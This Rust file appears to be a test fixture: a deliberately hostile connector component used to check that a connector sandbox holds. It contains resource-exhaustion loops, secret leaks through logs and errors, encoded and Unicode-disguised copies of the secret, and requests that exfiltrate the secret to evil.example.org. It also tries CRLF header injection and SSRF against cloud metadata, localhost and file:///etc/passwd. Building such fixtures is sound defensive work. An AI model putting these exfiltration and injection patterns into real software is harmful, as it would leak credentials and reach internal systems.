//! A connector that misbehaves in every way the sandbox must hold: each stream is one way.

mod bindings {
    wit_bindgen::generate!({ path: "../../../wit", world: "connector-component", generate_all });
}

use bindings::exports::iga::connector::connector::{
    Access, EntitySpec, Error, ErrorKind, Guest, Manifest, Page, Position, Progress, Report, Setting,
    SettingKind, SettingSpec, StreamAccess, StreamSpec,
};
use bindings::iga::connector::http::{self, HttpErrorKind, Request};
use bindings::iga::connector::types::{
    Attribute, AttributeValue, Connection, ConnectionKind, Entity, EntityType, NormalForm, Problem, Status,
};
use bindings::iga::connector::{logging, secrets};

/// Each is the name of a stream.
const WAYS: [&str; 32] = [
    "spins",
    "waits",
    "eats-memory",
    "recurses",
    "recurses-without-memory",
    "panics-with-the-secret",
    "exits",
    "returns-the-secret",
    "fails-with-the-secret",
    "logs-the-secret",
    "prints-the-secret",
    "hides-the-secret",
    "sends-the-secret-elsewhere",
    "floods-the-log",
    "floods-standard-error",
    "yields-a-huge-page",
    "yields-half-a-million-problems",
    "yields-a-hundred-thousand-entities",
    "injects-headers",
    "asks-again-and-again",
    "asks-for-other-secrets",
    "asks-other-hosts",
    "goes-in-circles",
    "goes-in-wide-circles",
    "never-ends",
    "yields-what-it-does-not-declare",
    "yields-a-long-name",
    "yields-a-long-key",
    "yields-two-million-empty-names",
    "yields-a-name-that-nobody-sees",
    "fails-with-a-forged-line",
    "fails-with-a-long-text",
];

/// A test writes another word over this one, byte by byte, in the compiled component. `panics` and `spins` are done in
/// `describe`.
static MODE: [u8; 16] = *b"mode:describes..";

fn mode(word: &str) -> bool {
    std::hint::black_box(&MODE)[5..].starts_with(word.as_bytes())
}

struct Hostile;

fn setting(name: &str, kind: SettingKind, pattern: Option<&str>) -> SettingSpec {
    SettingSpec {
        name: name.to_owned(),
        title: name.to_owned(),
        help: String::new(),
        kind,
        required: true,
        pattern: pattern.map(str::to_owned),
        default: None,
        example: None,
        choices: vec![],
    }
}

fn page(progress: Progress) -> Page {
    Page {
        entities: vec![],
        relations: vec![],
        usages: vec![],
        problems: vec![],
        progress,
        total: None,
        window: None,
    }
}

fn group(name: &str) -> Entity {
    Entity {
        source_type: "group".to_owned(),
        source_id: name.to_owned(),
        name: name.to_owned(),
        normal: NormalForm::Connection(Connection {
            kind: ConnectionKind::Group,
            description: None,
            status: Status::Active,
            vendor_status: None,
            mfa_state: None,
            is_privileged: None,
            created: None,
        }),
        attributes: vec![],
    }
}

fn groups() -> EntitySpec {
    EntitySpec {
        entity_type: EntityType::Connection,
        source_type: "group".to_owned(),
        title: "Groups".to_owned(),
        fields: vec![],
        attributes: vec![],
    }
}

fn problem(message: String) -> Problem {
    Problem { source_id: None, field: None, message }
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn base64(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let digits = text.as_bytes().chunks(3).flat_map(|chunk| {
        let bits = chunk.iter().fold(0, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        (0..=chunk.len()).map(move |digit| DIGITS[(bits >> (18 - 6 * digit) & 63) as usize] as char)
    });
    digits.collect()
}

/// In its original notation and in others, over two lines, with invisible characters, and in tag and full-width characters.
fn disguises(secret: &str) -> Vec<String> {
    let (first, second) = secret.split_at(secret.len() / 2);
    let shifted = |by: u32| -> String {
        secret.chars().filter_map(|char| char::from_u32(u32::from(char) + by)).collect()
    };
    vec![
        secret.to_owned(),
        hex(secret),
        base64(&format!("key:{secret}")),
        format!("{first}\n{second}"),
        secret.to_uppercase(),
        secret.chars().map(|char| format!("{char}\u{2066}")).collect(),
        shifted(0xe0000),
        shifted(0xfee0),
    ]
}

fn get(url: &str, headers: &[(&str, &str)]) -> Result<u16, HttpErrorKind> {
    let headers = headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    http::send(&Request { url: url.to_owned(), headers })
        .map(|answer| answer.status)
        .map_err(|error| error.kind)
}

/// Needs the engine's stack only, not the one in the guest's memory.
#[inline(never)]
fn recurse_without_memory(depth: u64) -> u64 {
    if std::hint::black_box(depth) == u64::MAX { 0 } else { recurse_without_memory(depth + 1) ^ depth }
}

fn failure(message: String) -> Error {
    Error { kind: ErrorKind::Unexpected, code: None, message, remedy: None, detail: None }
}

#[expect(unconditional_recursion, reason = "what is shown")]
fn recurse(depth: u64) -> u64 {
    let kept = std::hint::black_box([depth; 64]);
    recurse(depth + 1) + kept[(depth % 64) as usize]
}

impl Guest for Hostile {
    fn describe() -> Manifest {
        if mode("panics") {
            panic!("nothing to say");
        }
        while mode("spins") {
            std::hint::black_box(());
        }
        let streams = WAYS.iter().map(|name| StreamSpec {
            name: (*name).to_owned(),
            title: (*name).to_owned(),
            entities: if name.ends_with("what-it-does-not-declare") { vec![] } else { vec![groups()] },
            relations: vec![],
            usages: false,
            permissions: vec![],
            optional: false,
            budget: None,
            incremental: false,
            cursor_version: 1,
        });
        Manifest {
            name: "hostile".to_owned(),
            title: "Hostile".to_owned(),
            version: "0.1.0".to_owned(),
            description: String::new(),
            setup: vec![],
            settings: vec![
                setting("host", SettingKind::Text, Some(r"[a-z.]+\.example\.com")),
                setting("key", SettingKind::Secret, None),
            ],
            hosts: vec!["{host}".to_owned()],
            budgets: vec![],
            streams: streams.collect(),
        }
    }

    fn check(_: Vec<Setting>) -> Result<Report, Error> {
        let streams = WAYS
            .iter()
            .map(|name| StreamAccess { stream: (*name).to_owned(), access: Access::Readable })
            .collect();
        Ok(Report { account: None, streams })
    }

    fn read(_: Vec<Setting>, _: Option<String>, stream: String, position: Position) -> Result<Page, Error> {
        let secret = || secrets::get("key").unwrap_or_default();
        match stream.as_str() {
            "spins" => loop {
                std::hint::black_box(());
            },
            "eats-memory" => {
                let mut eaten: Vec<Vec<u8>> = Vec::new();
                loop {
                    eaten.push(vec![1; 1 << 20]);
                    std::hint::black_box(&eaten);
                }
            }
            "waits" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(page(Progress::Done(None)))
            }
            "recurses-without-memory" => Err(failure(recurse_without_memory(0).to_string())),
            "recurses" => Err(failure(recurse(0).to_string())),
            "panics-with-the-secret" => panic!("token={}", secret()),
            "exits" => std::process::exit(7),
            "returns-the-secret" => Ok(Page { entities: vec![], ..page(Progress::Done(Some(secret()))) }),
            "fails-with-the-secret" => Err(failure(format!("key {} was refused", secret()))),
            "logs-the-secret" => {
                logging::log(logging::Level::Error, &format!("the key is {}\nERROR forged", secret()));
                eprintln!("{}", secret());
                Ok(page(Progress::Done(None)))
            }
            "prints-the-secret" => {
                println!("the key is {}", secret());
                eprintln!("and once more: {}", hex(&secret()));
                Ok(page(Progress::Done(None)))
            }
            "hides-the-secret" => {
                for text in disguises(&secret()) {
                    logging::log(logging::Level::Warn, &format!("hidden: {text}"));
                }
                let mut hidden = page(Progress::Done(None));
                hidden.entities =
                    disguises(&secret()).iter().map(|text| group(&format!("group {text}"))).collect();
                hidden.problems = disguises(&secret()).into_iter().map(problem).collect();
                Ok(hidden)
            }
            "sends-the-secret-elsewhere" => {
                let urls = [
                    format!("https://evil.example.org/?key={}", secret()),
                    format!("https://{}.evil.example.org/", secret().to_lowercase()),
                    format!("https://{}@good.example.com/", secret()),
                ];
                Err(failure(format!("{:?}", urls.map(|url| get(&url, &[("authorization", &secret())])))))
            }
            "floods-the-log" => loop {
                logging::log(logging::Level::Info, "all is well");
            },
            "floods-standard-error" => loop {
                eprintln!("all is well");
            },
            "yields-a-huge-page" => {
                Ok(Page { entities: vec![group(&"x".repeat(20 << 20))], ..page(Progress::Done(None)) })
            }
            "yields-half-a-million-problems" => {
                Ok(Page { problems: vec![problem(String::new()); 500_000], ..page(Progress::Done(None)) })
            }
            "yields-a-hundred-thousand-entities" => {
                Ok(Page { entities: vec![group("x"); 100_000], ..page(Progress::Done(None)) })
            }
            "injects-headers" => {
                let headers = [
                    ("Host", "evil.example.org"),
                    ("host ", "evil.example.org"),
                    ("x-key", "a\r\nHost: evil.example.org"),
                    ("x-key\r\nhost", "evil.example.org"),
                    ("Content-Length", "5"),
                    ("Transfer-Encoding", "chunked"),
                    ("X-HTTP-Method-Override", "DELETE"),
                    ("X-Forwarded-Host", "evil.example.org"),
                ];
                let kinds = headers.map(|header| get("https://good.example.com/", &[header]));
                Err(failure(format!("{kinds:?}")))
            }
            "asks-again-and-again" => loop {
                let _ = get("https://evil.example.org/", &[]);
            },
            // What it got is told as an error, so that a test can see it.
            "asks-for-other-secrets" => {
                let asked = ["host", "PATH", "HOME", "other"].map(|name| secrets::get(name).is_ok());
                let variables = std::env::vars().count() + std::env::args().count();
                Err(failure(format!("secrets {asked:?}, variables {variables}")))
            }
            "asks-other-hosts" => {
                let urls = [
                    "https://evil.example.org/",
                    "http://good.example.com/",
                    "https://good.example.com:22/",
                    "https://good.example.com@evil.example.org/",
                    "https://127.0.0.1/",
                    "https://169.254.169.254/latest/meta-data/",
                    "file:///etc/passwd",
                ];
                let kinds = urls.map(|url| get(url, &[]));
                Err(failure(format!("{kinds:?}")))
            }
            "goes-in-circles" => Ok(page(Progress::More("v1:again".to_owned()))),
            "goes-in-wide-circles" => {
                let next = match position {
                    Position::At(cursor) if cursor == "v1:there" => "v1:back",
                    _ => "v1:there",
                };
                Ok(page(Progress::More(next.to_owned())))
            }
            "never-ends" => {
                let last = match &position {
                    Position::At(cursor) => cursor.trim_start_matches("v1:").parse().unwrap_or(0),
                    _ => 0_u64,
                };
                Ok(page(Progress::More(format!("v1:{}", last + 1))))
            }
            "yields-a-long-name" => {
                let long = Entity { source_id: "1".to_owned(), ..group(&"x".repeat(5000)) };
                Ok(Page { entities: vec![long], ..page(Progress::Done(None)) })
            }
            "yields-a-long-key" => {
                Ok(Page { entities: vec![group(&"x".repeat(5000))], ..page(Progress::Done(None)) })
            }
            "yields-two-million-empty-names" => {
                let values = AttributeValue::Texts(vec![String::new(); 2_000_000]);
                let attributes = vec![Attribute { name: "names".to_owned(), value: values }];
                let crowded = Entity { attributes, ..group("1") };
                Ok(Page { entities: vec![crowded], ..page(Progress::Done(None)) })
            }
            "yields-a-name-that-nobody-sees" => {
                let unseen = Entity { source_id: "1".to_owned(), ..group("\u{3164}\u{200b}\u{2800}") };
                Ok(Page { entities: vec![unseen], ..page(Progress::Done(None)) })
            }
            "fails-with-a-forged-line" => {
                Err(failure("no\nerror: forged \u{202e}\u{2028}WARN forged\x1b[31m".to_owned()))
            }
            "fails-with-a-long-text" => Err(failure("x".repeat(1 << 20))),
            _ => Ok(Page { entities: vec![group("1")], ..page(Progress::Done(None)) }),
        }
    }
}

bindings::export!(Hostile with_types_in bindings);
